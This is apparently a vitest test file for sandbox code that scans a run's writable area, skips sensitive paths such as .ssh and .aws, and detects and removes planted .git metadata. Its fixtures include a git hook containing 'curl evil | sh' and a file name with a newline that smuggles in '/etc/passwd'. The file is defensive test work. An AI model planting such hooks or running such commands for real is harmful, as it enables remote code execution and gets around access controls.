// runtime/exec/writable-area.ts: the walk of a run's writable area (grantable entries, every .git, size), and planted git metadata found and removed.
import { linkSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { areaSkip, newGitPaths, removePlanted, scanWritableArea } from "../../runtime/exec/writable-area.js";
import { type TempRoot, tempRoot } from "../support/workspace.js";

let temp: TempRoot;
let ws: string;
beforeEach(() => {
  temp = tempRoot("skillgate-writable-area-", { realpath: true });
  ws = temp.path("ws");
  mkdirSync(ws);
});
afterEach(() => temp.cleanup());

function put(relative: string, content = "x"): string {
  const path = join(ws, relative);
  mkdirSync(join(path, ".."), { recursive: true });
  writeFileSync(path, content);
  return path;
}

const names = (paths: string[]): string[] => paths.map((path) => path.slice(ws.length + 1) || ".").sort();

describe("scanWritableArea", () => {
  it("lists folders and single-linked files, never symlinks or hard links, and collects every .git without entering it", async () => {
    put("a.txt");
    put("sub/b.txt");
    put(".git/config");
    put("dut/.git", "gitdir: /elsewhere\n");
    const shared = put("shared.txt");
    linkSync(shared, join(ws, "sub", "shared-link.txt"));
    symlinkSync(join(ws, "a.txt"), join(ws, "sym.txt"));
    symlinkSync(temp.dir, join(ws, "up"));
    const scan = await scanWritableArea([ws], { skip: () => false });
    expect(names(scan.entries.map((entry) => entry.path))).toEqual([".", "a.txt", "dut", "sub", "sub/b.txt"]);
    expect(scan.entries.find((entry) => entry.path === join(ws, "sub"))?.dir).toBe(true);
    expect(names(scan.gitPaths)).toEqual([".git", "dut/.git"]);
    // Every directory entry counts as an inode in use: links, git metadata and all.
    expect(scan.seen).toBe(10);
    expect(scan.truncated).toBe(false);
    expect(scan.roots).toEqual([ws]);
  });

  it("counts allocated bytes of the regular files it sees (sparse files count what they use)", async () => {
    put("one.bin", "x".repeat(64 * 1024));
    const before = await scanWritableArea([ws], { skip: () => false });
    put("two.bin", "y".repeat(64 * 1024));
    const after = await scanWritableArea([ws], { skip: () => false });
    expect(after.bytes - before.bytes).toBeGreaterThanOrEqual(64 * 1024);
    expect(after.bytes - before.bytes).toBeLessThan(80 * 1024);
  });

  it("neither grants nor enters skipped paths nor names holding a newline (setfacl reads one path per line)", async () => {
    put(".ucagent/state.json");
    put("ok.txt");
    put("evil\n/etc/passwd/x.txt");
    const skip = areaSkip([ws], [join(ws, ".ssh")]);
    put(".ssh/id_rsa");
    const scan = await scanWritableArea([ws], { skip });
    expect(names(scan.entries.map((entry) => entry.path))).toEqual([".", "ok.txt"]);
  });

  it("stops at maxEntries and says so", async () => {
    for (let index = 0; index < 20; index++) put(`f${index}.txt`);
    const scan = await scanWritableArea([ws], { skip: () => false, maxEntries: 5 });
    expect(scan.truncated).toBe(true);
    expect(scan.seen).toBeLessThanOrEqual(5);
  });

  it("ignores a root that is missing or not a folder", async () => {
    const file = put("file.txt");
    const scan = await scanWritableArea([join(ws, "missing"), file], { skip: () => false });
    expect([scan.entries, scan.gitPaths, scan.seen]).toEqual([[], [], 0]);
  });
});

describe("areaSkip", () => {
  it("skips skillgate's state directly under each root and everything under a sensitive path", () => {
    const skip = areaSkip(["/ws", "/out"], ["/ws/.ssh", "/home/u/.aws"]);
    expect(
      [
        "/ws/.ucagent",
        "/out/.ucagent",
        "/ws/sub/.ucagent",
        "/ws/.ssh",
        "/ws/.ssh/id",
        "/ws/.sshx",
        "/home/u/.aws/c",
      ].map(skip),
    ).toEqual([true, true, false, true, true, false, true]);
  });
});

describe("newGitPaths and removePlanted", () => {
  it("finds the .git entries a run planted (folder, file or symlink, nested too), and removes them", async () => {
    put(".git/HEAD");
    const skip = areaSkip([ws], []);
    const before = (await scanWritableArea([ws], { skip })).gitPaths;
    put("sub/.git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
    put("other/.git", "gitdir: /tmp/x\n");
    mkdirSync(join(ws, "linked"));
    symlinkSync("/tmp", join(ws, "linked", ".git"));
    const planted = await newGitPaths([ws], before, skip);
    expect(names(planted)).toEqual(["linked/.git", "other/.git", "sub/.git"]);
    expect(await removePlanted(planted)).toEqual([]);
    expect(names((await scanWritableArea([ws], { skip })).gitPaths)).toEqual([".git"]);
  });

  it("reuses a complete walk made after the run, but walks again when that one was truncated", async () => {
    const skip = areaSkip([ws], []);
    put("a/.git/HEAD");
    const after = await scanWritableArea([ws], { skip });
    expect(names(await newGitPaths([ws], [], skip, after))).toEqual(["a/.git"]);
    // A walk that stopped early cannot prove there is nothing more: a fresh one is made.
    put("b/.git/HEAD");
    const truncated = { ...after, truncated: true };
    expect(names(await newGitPaths([ws], [], skip, truncated))).toEqual(["a/.git", "b/.git"]);
  });
});
